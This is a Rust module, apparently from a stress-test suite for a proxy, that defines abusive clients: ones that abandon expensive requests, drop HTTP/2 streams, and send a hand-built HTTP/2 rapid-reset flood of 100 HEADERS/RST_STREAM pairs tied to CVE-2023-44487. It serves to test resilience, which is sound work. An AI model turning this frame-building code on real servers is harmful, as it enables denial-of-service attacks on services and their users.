//! Clients that ask for work and do not wait for it.

use std::time::Duration;

use tokio::time::{sleep, timeout};

use super::Attackers;
use crate::{raw::Raw, streams::Streams, support::request};

/// How long a client waits before it leaves.
const STAYS: Duration = Duration::from_millis(6);
/// Half a second of work, finished by the service although nobody waits for it. That takes places by right, so it has a gauge of its own.
const DEAR: &str = "/dear?ms=500";
const DEAR_BODY: &str = "/late-body?ms=500";
/// The same in the honest clients' gauge, as seldom as it has room for: one place in twenty, on average.
const DEAR_BESIDE: &str = "/?ms=500";
/// How many streams are reset at once.
const RESETS: u32 = 100;

pub(super) fn start(attackers: &mut Attackers, address: &str) {
    let second = Duration::from_secs(1);
    attackers.add("calls left", 2, second / 5, |address| leave(address, DEAR), address);
    attackers.add("calls left after the head", 2, second / 5, leave_after_the_head, address);
    attackers.add("streams left", 2, second / 5, |address| leave_a_stream(address, DEAR), address);
    attackers.add("streams left after the head", 2, second / 5, leave_a_stream_after_the_head, address);
    attackers.add("calls left beside the honest", 1, second, |address| leave(address, DEAR_BESIDE), address);
    let attack = |address| leave_a_stream(address, DEAR_BESIDE);
    attackers.add("streams left beside the honest", 1, second, attack, address);
    attackers.add(
        "rapid resets of dear calls",
        1,
        second / 2,
        |address| reset_rapidly(address, DEAR),
        address,
    );
    attackers.add("rapid resets", 1, second, |address| reset_rapidly(address, "/"), address);
}

async fn leave(address: String, path: &str) {
    let client = Raw::send(&address, request(&address, path).as_bytes()).await;
    sleep(STAYS).await;
    client.reset();
}

async fn leave_after_the_head(address: String) {
    let mut client = Raw::send(&address, request(&address, DEAR_BODY).as_bytes()).await;
    let _ = client.head().await;
    client.reset();
}

async fn leave_a_stream(address: String, path: &str) {
    let (streams, ended) = Streams::connect(&address).await;
    let _ = timeout(STAYS, streams.get(path)).await;
    drop(streams);
    let _ = ended.await;
}

async fn leave_a_stream_after_the_head(address: String) {
    let (streams, ended) = Streams::connect(&address).await;
    let _ = streams.get(DEAR_BODY).await;
    drop(streams);
    let _ = ended.await;
}

/// Asks and resets so many times, all of it in one piece: <https://www.cve.org/CVERecord?id=CVE-2023-44487>.
async fn reset_rapidly(address: String, path: &str) {
    const SETTINGS: u8 = 4;
    const HEADERS: u8 = 1;
    const RST_STREAM: u8 = 3;
    const END_STREAM_AND_HEADERS: u8 = 5;
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    // By HPACK's table of known fields: GET, http, then :authority and :path with the lengths of their values.
    let mut asked = vec![0x82, 0x86, 0x41, 1, b'a', 0x44, u8::try_from(path.len()).unwrap()];
    asked.extend(path.bytes());
    let mut all = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    all.extend(frame(SETTINGS, 0, 0, &[]));
    for stream in (0..RESETS).map(|number| 2 * number + 1) {
        all.extend(frame(HEADERS, END_STREAM_AND_HEADERS, stream, &asked));
        all.extend(frame(RST_STREAM, 0, stream, &CANCEL));
    }
    let mut client = Raw::send(&address, &all).await;
    // Until the proxy has had enough of it, or leaves it alone.
    let _ = timeout(Duration::from_secs(1), client.end()).await;
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}
